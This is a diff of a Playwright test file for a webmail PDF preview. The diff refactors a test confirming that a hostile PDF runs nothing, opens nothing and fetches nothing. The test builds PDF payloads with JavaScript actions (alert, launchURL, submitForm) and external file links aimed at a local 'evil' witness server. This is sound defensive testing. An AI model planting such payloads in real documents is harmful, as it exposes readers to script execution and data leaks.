@@ -2,23 +2,16 @@ import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import type { Locator, Page } from "playwright/test";
 import { expect, expectAccessible, enter, test } from "#e2e/fixtures.ts";
+import { watchPage } from "#e2e/hostile/watch-page.ts";
+import { deliver, robinOf } from "#e2e/pages/robin.ts";
 import { tinyPdf } from "#e2e/hostile/tiny-pdf.ts";
-import { WireClient } from "#e2e/wire-client.ts";
 
 /** Opens the preview of a PDF that robin sent. */
 async function openPreview(page: Page, url: string, base64: string): Promise<Locator> {
-  const robin = new WireClient(url);
-  await robin.signIn("robin");
-  const { messageId } = await robin.call("sendMessage", {
-    loggedInUser: "robin",
-    sessionKey: robin.sessionId,
-    email: {
-      to: ["casey@direct.example"],
-      from: "robin@direct.example",
-      subject: "Scan",
-      textBody: "attached",
-      attachments: [{ fileName: "scan.pdf", contentType: "application/pdf", base64 }],
-    },
+  const robin = await robinOf(url);
+  const messageId = await deliver(robin, "Scan", {
+    textBody: "attached",
+    attachments: [{ fileName: "scan.pdf", contentType: "application/pdf", base64 }],
   });
   await enter(page, url);
   await page.goto(`/messages/${messageId}`);
@@ -162,17 +155,6 @@ test("a hostile PDF runs nothing, opens nothing and fetches nothing", async ({ p
   await new Promise<void>((resolve) => witness.listen(0, "127.0.0.1", resolve));
   // A listening TCP server has an address of this form.
   const evil = `http://127.0.0.1:${(witness.address() as AddressInfo).port}`;
-  const foreign: string[] = [];
-  const opened: string[] = [];
-  const dialogs: string[] = [];
-  context.on("request", (request) => {
-    if (!request.url().startsWith(server.url) && !/^(?:blob|data|about):/.test(request.url()))
-      foreign.push(request.url());
-  });
-  page.on("dialog", (dialog) => {
-    dialogs.push(dialog.message());
-    void dialog.dismiss();
-  });
   const script = `<< /S /JavaScript /JS (app.alert\\("ran"\\); app.launchURL\\("${evil}/js"\\); this.submitForm\\("${evil}/form"\\)) >>`;
   const action = (more: string) =>
     `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Border [0 0 0] /A << ${more} >> >>`;
@@ -192,8 +174,8 @@ test("a hostile PDF runs nothing, opens nothing and fetches nothing", async ({ p
     ].join(" ")}]`,
     content: `/F << /FS /URL /F (${evil}/external) >> /FFilter /FlateDecode`,
   });
+  const { foreign, opened, dialogs } = watchPage(page, context, server.url);
   const dialog = await openPreview(page, server.url, hostile);
-  context.on("page", (other) => opened.push(other.url()));
   const second = dialog.getByRole("img", { name: "Page 2 of 2" });
   await second.scrollIntoViewIfNeeded();
   await expect.poll(() => inkOf(second)).toBeGreaterThan(1000);
